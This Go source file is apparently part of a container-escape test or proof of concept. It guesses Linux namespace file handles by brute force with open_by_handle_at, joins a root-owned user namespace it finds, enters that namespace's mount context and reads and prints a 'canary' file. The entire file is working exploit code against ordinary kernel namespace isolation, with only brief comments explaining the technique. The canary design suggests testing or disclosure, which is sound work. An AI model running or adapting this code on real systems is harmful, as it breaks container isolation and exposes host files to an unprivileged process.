// SPDX-License-Identifier: Apache-2.0

package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Namespaces have file handles since Linux 6.18, which can be guessed: their numbers are counted up. Whoever has every
// capability in a namespace may open it, and so may its owner: a process of the parent user namespace with the user id
// that made it.
const (
	nsfsRoot   = -10003 // FD_NSFS_ROOT
	nsfsHandle = 0xf1   // FILEID_NSFS

	idsBefore, idsAfter = 2_000, 9_000
	inodesAround        = 100
)

// ownedNamespace looks for a user namespace that root owns and joins it. With all capabilities there, it makes a copy of
// the container's mounts and has its root set to theirs.
func ownedNamespace() error {
	own, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/proc/self/ns/mnt", unix.AT_SYMLINK_FOLLOW)
	if err != nil {
		return err
	}
	b := own.Bytes()
	if own.Type() != nsfsHandle || len(b) < 16 {
		return errors.New("namespaces have no handles")
	}
	id, inode := binary.LittleEndian.Uint64(b), binary.LittleEndian.Uint32(b[12:])
	var st unix.Stat_t
	if err := unix.Stat("/proc/self/ns/user", &st); err != nil {
		return err
	}
	guess := make([]byte, 16)
	binary.LittleEndian.PutUint32(guess[8:], unix.CLONE_NEWUSER)
	for n := max(id, idsBefore) - idsBefore; n < id+idsAfter; n++ {
		for i := inode - inodesAround; i < inode+inodesAround; i++ {
			if uint64(i) == st.Ino {
				continue
			}
			binary.LittleEndian.PutUint64(guess, n)
			binary.LittleEndian.PutUint32(guess[12:], i)
			fd, err := unix.OpenByHandleAt(nsfsRoot, unix.NewFileHandle(nsfsHandle, guess), unix.O_RDONLY)
			if errors.Is(err, unix.ENOSYS) || errors.Is(err, unix.EBADF) {
				return err
			}
			if err != nil {
				continue
			}
			if err := throughNamespace(fd); err != nil {
				fmt.Println("opened user namespace", i, "but:", err)
			} else {
				fmt.Println("joined user namespace", i)
			}
			return nil
		}
	}
	return errFailed
}

// throughNamespace works in a child without threads, as setns(2) asks for user namespaces. There is no Go runtime in it.
func throughNamespace(user int) error {
	var path, canary [256]byte
	copy(path[:], "/proc/self/ns/mnt")
	copy(canary[:], canaries[0])
	var out [512]byte
	pid, _, errno := unix.RawSyscall6(unix.SYS_CLONE, uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
	if errno != 0 {
		return errno
	}
	if pid > 0 {
		var ws unix.WaitStatus
		_, err := unix.Wait4(int(pid), &ws, 0, nil)
		if err == nil && ws.ExitStatus() != 0 {
			err = fmt.Errorf("step %d", ws.ExitStatus())
		}
		return err
	}
	exit := func(code uintptr) { unix.RawSyscall(unix.SYS_EXIT_GROUP, code, 0, 0) }
	if _, _, errno = unix.RawSyscall(unix.SYS_SETNS, uintptr(user), unix.CLONE_NEWUSER, 0); errno != 0 {
		exit(1)
	}
	if _, _, errno = unix.RawSyscall(unix.SYS_UNSHARE, unix.CLONE_NEWNS, 0, 0); errno != 0 {
		exit(2)
	}
	cwd := unix.AT_FDCWD
	fd, _, errno := unix.RawSyscall6(unix.SYS_OPENAT, uintptr(cwd), uintptr(unsafe.Pointer(&path[0])), unix.O_RDONLY, 0, 0, 0)
	if errno != 0 {
		exit(3)
	}
	if _, _, errno = unix.RawSyscall(unix.SYS_SETNS, fd, unix.CLONE_NEWNS, 0); errno != 0 {
		exit(4)
	}
	fd, _, errno = unix.RawSyscall6(unix.SYS_OPENAT, uintptr(cwd), uintptr(unsafe.Pointer(&canary[0])), unix.O_RDONLY, 0, 0, 0)
	if errno != 0 {
		exit(5)
	}
	n, _, _ := unix.RawSyscall(unix.SYS_READ, fd, uintptr(unsafe.Pointer(&out[0])), uintptr(len(out)))
	unix.RawSyscall(unix.SYS_WRITE, 1, uintptr(unsafe.Pointer(&out[0])), n)
	exit(0)
	return nil
}
